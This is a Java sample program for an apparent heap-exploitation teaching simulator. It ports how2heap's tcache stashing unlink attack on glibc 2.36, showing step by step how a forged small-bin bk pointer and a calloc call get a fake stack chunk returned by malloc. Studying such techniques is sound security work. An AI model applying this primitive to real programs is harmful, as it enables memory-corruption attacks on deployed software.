package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * Tcache stashing unlink attack: a port of how2heap's {@code glibc_2.36/tcache_stashing_unlink_attack.c}.
 * When malloc takes a chunk from a small bin, it moves that bin's other chunks into the tcache while
 * there is room; a forged bk in one of them gets a fake chunk stashed too, and the small bin's address
 * written into the fake chunk's bk->fd.
 *
 * <p>What to notice:
 * a) seven 0xa0 chunks fill the tcache, chunk0 and chunk2 go to the unsorted bin and are sorted into the
 *    0xa0 small bin; two mallocs then leave room for two in the tcache;
 * b) chunk2's bk is overwritten with the fake chunk on the stack, whose own bk points at writable memory
 *    (&stack_var[2]);
 * c) calloc, which never takes from the tcache, takes chunk0 from the small bin (its links are checked)
 *    and stashes chunk2 and then the fake chunk (theirs are not): the fake chunk ends at the tcache's
 *    head, and {@code bck->fd = bin} writes main_arena's small-bin address into stack_var[4]; the next
 *    malloc(0x90) returns the fake chunk.
 *
 * <p>Which check stops it: none in 2.36: malloc checks {@code bck->fd == victim} for the chunk it
 * returns, not for the ones it stashes. how2heap's README lists it as working on every version with a
 * tcache; its per-version folders carry it up to 2.40.
 *
 * <p>Run: {@code ./mallocscope run tcache-stashing-unlink-attack}
 */
@Sample(name = "tcache-stashing-unlink-attack",
        description = "how2heap: calloc stashes a forged small-bin chunk into the tcache")
public final class TcacheStashingUnlinkAttack implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        c.puts("Tcache stashing unlink: a forged small-bin bk, followed by calloc.");
        long stackVar = c.local(0x10 * 8);
        c.memset(stackVar, 0, 0x10 * 8);
        c.putLong(stackVar + 3 * 8, stackVar + 2 * 8);
        c.printf("Fake chunk: %p, its bk: %p\n", stackVar, c.getLong(stackVar + 3 * 8));
        c.printf("stack_var[4] holds 0x%lx\n", c.getLong(stackVar + 4 * 8));

        long[] chunk = new long[9];
        for (int i = 0; i < chunk.length; i++) {
            chunk[i] = c.malloc(0x90);
        }
        c.printf("chunk0: %p, chunk2: %p\n", chunk[0], chunk[2]);
        for (int i = 3; i < 9; i++) {
            c.free(chunk[i]);
        }
        c.free(chunk[1]);
        c.puts("chunk1 and chunk3..8 fill the 0xa0 tcache; chunk0 and chunk2 (not neighbours) go to the unsorted bin.");
        c.free(chunk[0]);
        c.free(chunk[2]);

        c.printf("malloc(0xa0) = %p sorts chunk0 and chunk2 into the 0xa0 small bin\n", c.malloc(0xa0));
        long m1 = c.malloc(0x90);
        long m2 = c.malloc(0x90);
        c.printf("malloc(0x90) twice: %p, %p; five 0xa0 chunks left in the tcache\n", m1, m2);

        long bin = c.getLong(chunk[2] + 8);
        c.putLong(chunk[2] + 8, stackVar);
        c.printf("chunk2->bk = %p (was %p, the small bin in main_arena)\n", c.getLong(chunk[2] + 8), bin);

        c.printf("calloc(1, 0x90) = %p\n", c.calloc(1, 0x90));
        c.printf("The fake chunk's tcache link, unmangled: %p (chunk2)\n",
                c.getLong(stackVar + 2 * 8) ^ ((stackVar + 2 * 8) >> 12));
        c.printf("stack_var[4] now holds %p\n", c.getLong(stackVar + 4 * 8));

        long target = c.malloc(0x90);
        c.printf("malloc(0x90) = %p, the fake chunk's user data\n", target);
        c.assertTrue(target == stackVar + 2 * 8, "target == &stack_var[2]");
        return 0;
    }
}
